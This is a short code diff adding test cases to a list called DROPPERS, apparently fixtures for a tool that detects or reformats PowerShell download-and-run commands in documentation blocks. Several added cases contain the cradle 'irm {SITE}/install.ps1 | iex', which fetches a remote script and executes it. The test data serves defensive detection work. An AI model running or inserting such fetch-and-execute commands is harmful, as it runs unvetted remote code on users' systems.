@@ -93,6 +93,16 @@ DROPPERS = [
         f".. code-block::\n\n  irm {SITE}/install.ps1 | iex",
     ),
     text(
+        "PowerShell_Download_And_Run",
+        f".. code\n\n  irm {SITE}/install.ps1 | iex",
+        f".. code::\n\n  irm {SITE}/install.ps1 | iex",
+    ),
+    text(
+        "PowerShell_Download_And_Run",
+        f"# A fence that ends the file\nirm {SITE}/install.ps1 | iex\n```",
+        f"# A fence that ends the file\n\n    ```{PS}\nirm {SITE}/install.ps1 | iex\n```",
+    ),
+    text(
         "PowerShell_Download_And_Run", f"{_CRADLE} | Invoke-Expression", PAGE.format(f"{_CRADLE} | Invoke-Expression")
     ),
     text(
